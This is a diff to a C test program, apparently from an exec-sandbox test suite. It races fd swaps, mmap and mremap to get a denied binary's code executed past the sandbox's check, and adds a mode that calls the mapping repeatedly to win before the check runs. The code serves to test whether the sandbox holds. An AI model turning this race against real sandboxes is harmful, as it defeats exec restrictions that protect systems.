@@ -1,21 +1,24 @@
 /*
- * attack_exec_mremap_race DIR SECONDS: the fd-swap race on mmap(PROT_EXEC) (race_mmap_exec.c)
+ * attack_exec_mremap_race DIR ITERATIONS [call]: the fd-swap race on mmap(PROT_EXEC) (race_mmap_exec.c)
  * with the exit stop's check dodged. DIR/good and DIR/bad hold `mov eax, 1; ret` and
  * `mov eax, 42; ret`; exec sandboxing allows good, denies bad. The main thread maps fd SLOT at
  * a fixed address X with PROT_READ|PROT_EXEC while a flipper thread dup2s good and bad onto
  * SLOT; a mover thread, as soon as anything is mapped at X, moves it away (mremap to Y) and maps
  * good at X (PROT_READ: not stopped), so that at the call's exit stop X holds the judged file.
- * Each moved mapping is called: 42 is the denied file's code running. Prints "WON" (exit 0) or
- * "LOST moved=N" after SECONDS.
+ * Each moved mapping is called: 42 is the denied file's code running. With `call`, the mover
+ * is replaced by a caller thread that calls X over and over (a fault while X is not executable
+ * is caught), to run the denied code before the exit stop looks at all. Prints "WON" (exit 0)
+ * or "LOST moved=N tries=N" after ITERATIONS mmaps.
  */
 #define _GNU_SOURCE
 #include <fcntl.h>
 #include <pthread.h>
+#include <setjmp.h>
+#include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 #include <sys/mman.h>
-#include <time.h>
 #include <unistd.h>
 
 enum { SLOT = 100, LEN = 4096 };
@@ -60,24 +63,53 @@ static void *mover(void *arg) {
   return NULL;
 }
 
+static __thread sigjmp_buf fault_env;
+
+static void on_fault(int sig) {
+  (void)sig;
+  siglongjmp(fault_env, 1);
+}
+
+static void *caller(void *arg) {
+  (void)arg;
+  while (!stop) {
+    if (sigsetjmp(fault_env, 1) != 0) continue;
+    if (((int (*)(void))X)() == 42) {
+      printf("WON by a call before the exit stop\n");
+      fflush(stdout);
+      _exit(0);
+    }
+  }
+  return NULL;
+}
+
 int main(int argc, char **argv) {
-  if (argc != 3) return 2;
+  if (argc != 3 && argc != 4) return 2;
+  int call_mode = argc == 4 && strcmp(argv[3], "call") == 0;
   char path[4096];
   snprintf(path, sizeof path, "%s/good", argv[1]);
   good_fd = open(path, O_RDONLY);
   snprintf(path, sizeof path, "%s/bad", argv[1]);
   bad_fd = open(path, O_RDONLY);
   if (good_fd < 0 || bad_fd < 0) return 3;
+  if (call_mode) {
+    struct sigaction sa;
+    memset(&sa, 0, sizeof sa);
+    sa.sa_handler = on_fault;
+    sa.sa_flags = SA_NODEFER;
+    sigaction(SIGSEGV, &sa, NULL);
+    sigaction(SIGBUS, &sa, NULL);
+  }
   pthread_t a, b;
   pthread_create(&a, NULL, flipper, NULL);
-  pthread_create(&b, NULL, mover, NULL);
-  time_t end = time(NULL) + atoi(argv[2]);
-  while (time(NULL) < end) {
+  pthread_create(&b, NULL, call_mode ? caller : mover, NULL);
+  long tries = atol(argv[2]);
+  for (long i = 0; i < tries; i++) {
     mmap(X, LEN, PROT_READ | PROT_EXEC, MAP_PRIVATE | MAP_FIXED, SLOT, 0);
   }
   stop = 1;
   pthread_join(a, NULL);
   pthread_join(b, NULL);
-  printf("LOST moved=%ld\n", moved);
+  printf("LOST moved=%ld tries=%ld\n", moved, tries);
   return 1;
 }
